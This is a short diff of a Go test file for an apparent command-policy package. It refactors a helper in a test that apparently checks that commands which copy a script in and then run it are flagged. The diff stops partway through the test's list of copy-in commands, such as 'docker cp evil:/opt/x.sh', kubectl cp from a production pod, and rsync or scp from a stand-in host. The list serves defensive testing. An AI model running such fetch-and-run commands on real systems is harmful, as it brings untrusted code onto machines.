@@ -3,7 +3,6 @@ package policy
 import (
 	"strings"
 	"testing"
-	"time"
 
 	"reeve.example/reeve/act"
 )
@@ -13,15 +12,7 @@ import (
 // the everyday.
 func TestBroughtThenRun(t *testing.T) {
 	starter := starterSet(t)
-	run := func(lines ...string) act.Effect {
-		var acts []*act.Action
-		for _, line := range lines {
-			a := commandAct(line)
-			a.At, a.Folder = time.Now(), "/home/dev/app"
-			acts = append(acts, a)
-		}
-		return oneAfterAnother(t, starter, acts...)
-	}
+	run := func(lines ...string) act.Effect { return lineAfterLine(t, starter, lines...) }
 	files := []string{
 		"docker cp evil:/opt/x.sh x.sh", "docker cp evil:/opt/x.sh .", "kubectl cp prod/web-0:/tmp/x.sh ./x.sh", "lxc file pull c/root/x.sh .",
 		"rsync -av rsync://mirror.c.example.net/pub/x.sh x.sh", "rsync build@c.example.net:x.sh .", "scp build@c.example.net:x.sh .",
